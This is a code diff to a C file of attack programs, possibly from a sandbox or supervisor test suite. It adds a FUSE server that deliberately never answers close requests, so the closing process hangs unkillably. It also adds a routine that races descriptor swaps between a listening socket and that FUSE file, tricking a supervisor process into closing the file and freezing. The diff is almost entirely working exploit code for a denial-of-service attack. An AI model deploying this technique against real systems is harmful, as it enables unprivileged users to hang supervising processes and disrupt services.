@@ -1,9 +1,11 @@
 /* SPDX-License-Identifier: BSD-2-Clause */
 /* A file of a FUSE server that never writes what was changed: from Linux 6.16 on the last close of
  * it never returns, and no signal interrupts it. Any user can have one, in a namespace. */
+#include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/fuse.h>
+#include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdint.h>
@@ -77,6 +79,9 @@ static struct fuse_attr fuse_attributes(uint64_t inode)
 	};
 }
 
+/* A process for which closing a file is quick; other ones wait for ever. 0: it is for all. */
+static pid_t fuse_friend;
+
 static void fuse_obey(int fd, const struct fuse_in_header *request, const void *more)
 {
 	const struct fuse_init_out start = {
@@ -109,7 +114,8 @@ static void fuse_obey(int fd, const struct fuse_in_header *request, const void *
 		break;
 	case FUSE_FLUSH:
 	case FUSE_RELEASE:
-		fuse_answer(fd, request->unique, 0, "", 0);
+		if (!fuse_friend || request->pid == (uint32_t)fuse_friend)
+			fuse_answer(fd, request->unique, 0, "", 0);
 		break;
 	case FUSE_WRITE: /* for ever */
 	case FUSE_FORGET:
@@ -175,4 +181,62 @@ ATTACK(fuse_descriptors)
 		fuse_send_files(device, arguments[1], arguments[2]);
 	else
 		fuse_serve(device);
+}
+
+/* For some 100 us. */
+static void fuse_spin(void)
+{
+	for (volatile int i = 0; i < 50000; i++)
+		;
+}
+
+/* Listens on @port, a few times. While the supervisor looks for the listener, descriptors
+ * FIRST and LAST are the listener, and a file, by turns. */
+static void fuse_swap(const char *folder, const char *port)
+{
+	enum { FIRST = 100, KEPT = 200, LAST = 300, LISTENS = 100, TURNS = 20 };
+	const struct sockaddr_in address = {.sin_family = AF_INET,
+	                                    .sin_port = htons((uint16_t)atoi(port))};
+	char path[256];
+	int file;
+
+	snprintf(path, sizeof(path), "%s/0", folder);
+	file = open(path, O_RDWR | O_CLOEXEC);
+	if (file < 0)
+		perror("attack: open");
+	for (int n = 0; n < LISTENS; n++) {
+		const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+		if (bind(fd, (const struct sockaddr *)&address, sizeof(address)) < 0)
+			perror("attack: bind");
+		dup2(fd, KEPT);
+		close(fd);
+		listen(KEPT, 1);
+		for (int i = 0; i < TURNS; i++) {
+			dup2(KEPT, FIRST);
+			dup2(KEPT, LAST);
+			fuse_spin();
+			dup2(file, FIRST);
+			dup2(file, LAST);
+			fuse_spin();
+		}
+		close(KEPT);
+	}
+}
+
+/* The supervisor, which looks for a listener of this worker on port @arguments[2], finds a file,
+ * sooner or later, and closing that never returns. Ends, to be started again. @arguments[0], [1]:
+ * as above. */
+ATTACK(fuse_in_place_of_listener)
+{
+	const int device = fuse_mount(arguments[0], arguments[1]);
+
+	fuse_friend = getpid();
+	if (fork() == 0) {
+		prctl(PR_SET_PDEATHSIG, SIGKILL);
+		fuse_serve(device);
+	}
+	close(device);
+	fuse_swap(arguments[1], arguments[2]);
+	exit(1);
 }
